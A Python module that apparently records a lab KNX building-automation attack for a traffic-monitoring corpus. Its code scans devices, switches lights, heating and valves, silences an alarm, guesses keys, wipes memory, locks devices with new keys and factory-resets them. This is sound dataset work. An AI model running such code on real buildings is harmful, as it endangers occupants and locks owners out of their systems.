"""A rogue workstation finds the router, looks for devices and switches everything; it wipes the memory of
a device, locks it with a new key, gives it another address, resets it, and forges telegrams by multicast."""

from collections.abc import Iterable
from typing import Any

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "knx/recorded-attack",
    stacks=("xknx 4.0.0",),
    programs=("knxd 0.14.54.1",),
    servers=("10.61.1.10",),
    clients=("10.61.1.20", "10.61.1.66"),
    listens=("udp 3671",),
)


def server() -> None:
    """The router and the devices behind it."""
    from _knx import router

    router()


def signature(said: bytes) -> Iterable[bytes]:
    """One frame a datagram."""
    from _knx import frames

    return frames(said)


def client() -> None:
    """Look around, switch, forge, lock, reset; the panel works on."""
    import asyncio

    asyncio.run(_attack())


async def _attack() -> None:
    from _knx import ATTACKER, PANEL, TEMPERATURE, Station, find

    await find(ATTACKER)
    async with Station(PANEL, 3672) as panel:
        await panel.read(TEMPERATURE)
        async with Station(ATTACKER, 3675) as rogue:
            await _look_around(rogue)
            await _switch(rogue)
            await panel.read(TEMPERATURE)
            await _ruin(rogue)
        async with Station(ATTACKER, 3676, routing="1.1.200") as forger:
            await _switch(forger)
        await panel.read(TEMPERATURE)


async def _look_around(rogue: Any) -> None:
    """Who is in programming mode, and who answers on one address after the other."""
    import asyncio

    from xknx.telegram import apci

    await rogue.broadcast(apci.IndividualAddressRead())
    for number in range(11, 20):
        await rogue.connect_and_leave(f"1.1.{number}")
        await asyncio.sleep(0.05)


async def _switch(rogue: Any) -> None:
    """Every light of a line, the setpoint, the valve, and the alarm that would tell."""
    from _knx import ALARM, SETPOINT, VALVE

    for number in range(1, 21):
        await rogue.write(f"1/0/{number}", number % 2)
    await rogue.write(SETPOINT, b"\x7f\xff")
    await rogue.write(VALVE, b"\xff")
    await rogue.write(ALARM, 0)


async def _ruin(rogue: Any) -> None:
    """Guess keys, wipe memory, lock, readdress, restart, reset to what the factory made."""
    from _knx import BLINDS, VALVES, ordinary
    from xknx.management import procedures
    from xknx.telegram import IndividualAddress, apci

    async with rogue.device(VALVES) as valves:
        for key in (0, 1, 0x12345678, 0x50756D70):
            await valves.request(apci.AuthorizeRequest(key=key))
        await valves.request(apci.PropertyValueRead(object_index=0, property_id=11))
        await procedures.dmp_mem_write_r_co(valves, 0x0100, bytes(48))
        await valves.request(
            apci.PropertyValueWrite(object_index=0, property_id=54, count=1, start_index=1, data=b"\x01")
        )
        for level in (0, 1, 2):
            await valves.request(apci.KeyWrite(level=level, key=0xDEADBEEF))
    await rogue.broadcast(apci.IndividualAddressWrite(address=IndividualAddress("15.15.255")))
    for device in (VALVES, BLINDS):
        await ordinary(procedures.dm_restart(rogue.xknx, device))
    await ordinary(procedures.dm_restart(rogue.xknx, BLINDS, master_reset=True, erase_code=2))
